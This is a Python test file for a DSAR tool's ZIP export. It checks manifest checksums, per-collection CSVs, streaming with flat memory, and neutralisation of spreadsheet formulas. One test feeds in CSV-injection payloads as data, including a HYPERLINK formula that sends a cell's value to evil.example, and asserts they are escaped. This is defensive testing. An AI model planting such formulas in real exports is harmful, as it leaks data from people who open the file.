"""The ZIP package: every file is in the manifest with the SHA-256 of its bytes as extracted; one
CSV per collection with a row per record; formula-looking cells neutralised; written to a
stream that cannot seek (the encrypted storage writer); and 100,000 records written with flat
memory."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import tracemalloc
import zipfile

import pytest
from sqlalchemy import select

from dsar.core import storage
from dsar.demo.org import SHOWCASE
from dsar.exports.content import ExportRecord, build_content
from dsar.exports.csv_export import write_csv
from dsar.exports.package import PackageMember, write_package
from dsar.extensions import db
from dsar.models import Case, CaseStatus, GatherStatus, SourceResult
from dsar.search import gathering
from dsar.sources.base import Discovery, Record
from tests.support.app import dispose
from tests.support.exports import NonSeekable, collection, gathered_case, package_of, validator
from tests.support.gathering import SHOP_SOURCE, app_with_sources, write_config
from tests.support.staff import make_case


def read_csv(archive: zipfile.ZipFile, name: str, delimiter: str) -> list[list[str]]:
    text = archive.read(name).decode("utf-8")
    assert text.startswith("\ufeff")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def test_the_manifest_lists_every_file_with_the_sum_of_its_bytes(demo):
    case_id = gathered_case(demo, SHOWCASE["A"]["email"])
    out = NonSeekable()
    with demo.app_context():
        case = db.session.scalar(select(Case).where(Case.id == case_id))
        pdf = PackageMember("report.pdf", "application/pdf",
                            lambda stream: stream.write(b"%PDF-1.7 stand-in for the report"))
        returned = write_package(build_content(case), out, extra=[pdf])
    with zipfile.ZipFile(io.BytesIO(out.buffer.getvalue())) as archive:
        assert archive.testzip() is None
        manifest = json.loads(archive.read("manifest.json"))
        listed = {f["name"]: f for f in manifest["files"]}
        members = set(archive.namelist()) - {"manifest.json"}
        assert set(listed) == members
        assert {"export.json", "export.schema.json", "report.pdf"} <= members
        for name, entry in listed.items():
            data = archive.read(name)
            assert entry["size"] == len(data), name
            assert entry["sha256"] == hashlib.sha256(data).hexdigest(), name
        schema = json.loads(archive.read("export.schema.json"))
        assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert manifest["case_reference"].startswith("DSR-")
    assert manifest["csv"]["delimiter"] == ";"  # a French answer
    assert [(f.name, f.sha256) for f in returned.files] == [
        (f["name"], f["sha256"]) for f in manifest["files"]]
    assert returned.records > 0


def test_one_csv_per_collection_with_a_row_per_record(demo):
    case_id = gathered_case(demo, SHOWCASE["A"]["email"], language="en")
    zip_bytes, _ = package_of(demo, case_id)
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as archive:
        document = json.loads(archive.read("export.json"))
        expected = {f"csv/{s['name']}/{c['name']}.csv": c for s in document["sources"]
                    for c in s["collections"]}
        assert len(expected) >= 6
        assert {n for n in archive.namelist() if n.startswith("csv/")} == set(expected)
        for name, content in expected.items():
            rows = read_csv(archive, name, ",")  # an English answer: commas
            assert rows[0] == ["_key", *(f["name"] for f in content["fields"])], name
            assert len(rows) - 1 == content["record_count"] == len(content["records"]), name
            assert [r[0] for r in rows[1:]] == [r["key"] for r in content["records"]], name
        tickets = read_csv(archive, "csv/support/tickets.csv", ",")
    # A multi-line ticket body survives the round trip.
    body = tickets[0].index("body")
    original = next(s for s in document["sources"] if s["name"] == "support")
    assert [r[body] for r in tickets[1:]] == [
        r["fields"]["body"] for r in original["collections"][0]["records"]]


def test_a_formula_looking_value_is_neutralised_in_csv_but_not_in_json(demo):
    case_id = gathered_case(demo, SHOWCASE["A"]["email"])
    zip_bytes, _ = package_of(demo, case_id)
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as archive:
        rows = read_csv(archive, "csv/platform/accounts.csv", ";")
        document = json.loads(archive.read("export.json"))
    phone = rows[0].index("phone")
    assert rows[1][phone] == "'+33 6 12 48 90 37"  # "+33 6…" would be read as a formula
    platform = next(s for s in document["sources"] if s["name"] == "platform")
    assert platform["collections"][0]["records"][0]["fields"]["phone"] == "+33 6 12 48 90 37"


def test_csv_cells_never_start_a_formula():
    def record(key, **fields):
        return ExportRecord(key, fields)

    records = [
        record("1", text='=HYPERLINK("http://evil.example/?"&A1,"Click")', data=None),
        record("2", text="@SUM(A1:A9)", data={"a": [1, 2]}),
        record("3", text="-2+3", data=-12.5),
        record("4", text="  =1+1", data=True),
        record("5", text="+33 6 12 48 90 37", data="-12.50"),
        record("=6", text="\t=cmd", data=42),
    ]
    out = io.StringIO()
    assert write_csv(collection("text", "data"), records, out, delimiter=",") == 6
    rows = list(csv.reader(io.StringIO(out.getvalue()[1:], newline="")))
    assert rows[0] == ["_key", "text", "data"]
    assert rows[1] == ["1", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', ""]
    assert rows[2] == ["2", "'@SUM(A1:A9)", '{"a": [1, 2]}']
    assert rows[3] == ["3", "'-2+3", "-12.5"]  # a number stays a number
    assert rows[4] == ["4", "'  =1+1", "true"]
    assert rows[5] == ["5", "'+33 6 12 48 90 37", "-12.50"]
    assert rows[6] == ["'=6", "'\t=cmd", "42"]
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows[1:]:
        for value in row:
            assert not value.lstrip(" ").startswith(dangerous) or value.lstrip("-").replace(
                ".", "").isdigit(), value


RECORDS = 100_000


@pytest.fixture
def big_case(app, tmp_path, database_url, redis_url, key_file, smtp_server):
    """A case whose shop search found 100,000 records, stored encrypted as the search stores
    them (a streamed blob of JSON lines)."""
    write_config(tmp_path, {"shop": SHOP_SOURCE})
    shop = app_with_sources(database_url, redis_url, key_file, smtp_server, tmp_path)
    case = make_case(shop, status=CaseStatus.REVIEW)
    found = Discovery(records=[Record("customers", str(i), {
        "id": i, "email": f"camille.martin+{i}@example.fr", "name": f"Camille Martin {i}",
        "note": f"=commande n°{i} " + "x" * 80}) for i in range(RECORDS)])
    with shop.app_context():
        with storage.text_writer() as out:  # stored as a search stores its result
            for line in gathering.result_lines(found):
                out.write(line)
        blob = out.blob
        del found
        db.session.add(SourceResult(
            case_id=case.id, source="shop", status=GatherStatus.DONE, round=1,
            result_blob_id=blob.blob_id, record_count=RECORDS, counts={"customers": RECORDS}))
        db.session.commit()
    yield shop, case.id, blob.size
    dispose(shop)


def package_peak(case: Case, target, **options) -> tuple[object, int]:
    """Build and write the case's package to ``target``: the manifest and the peak of Python
    allocations (tracemalloc) meanwhile."""
    tracemalloc.start()
    try:
        content = build_content(case, **options)
        with target.open("wb") as out:
            manifest = write_package(content, out)
        return manifest, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_hundred_thousand_records_are_packaged_with_flat_memory(big_case, tmp_path):
    """From the encrypted search result to the ZIP: records decrypted, parsed and written one at
    a time, in three passes (count, JSON, CSV); nothing holds the whole result or document."""
    shop, case_id, blob_size = big_case
    target = tmp_path / "package.zip"
    with shop.app_context():
        manifest, peak = package_peak(db.session.get(Case, case_id), target)
    assert manifest.records == RECORDS
    json_size = manifest.file("export.json").size
    csv_size = manifest.file("csv/shop/customers.csv").size
    assert json_size > 15_000_000 and blob_size > 15_000_000
    # The peak stays a small fraction of what is read and written.
    assert peak < 8_000_000, peak
    assert peak * 10 < json_size + csv_size and peak * 3 < blob_size
    with zipfile.ZipFile(target) as archive:
        with archive.open("csv/shop/customers.csv") as member:
            assert sum(1 for _ in io.TextIOWrapper(member, encoding="utf-8-sig",
                                                   newline="")) == RECORDS + 1
        with archive.open("export.json") as member:
            document = json.load(member)
    customers = document["sources"][0]["collections"][0]
    assert customers["record_count"] == len(customers["records"]) == RECORDS
    assert [f["category"]["code"] for f in customers["fields"]] == [
        "identification", "contact", "identification", "unclassified"]
    assert customers["records"][-1]["fields"]["note"].startswith("=commande")  # JSON: as is
    customers["records"] = customers["records"][:1000]  # each record is checked alike
    assert not list(validator().iter_errors(document))
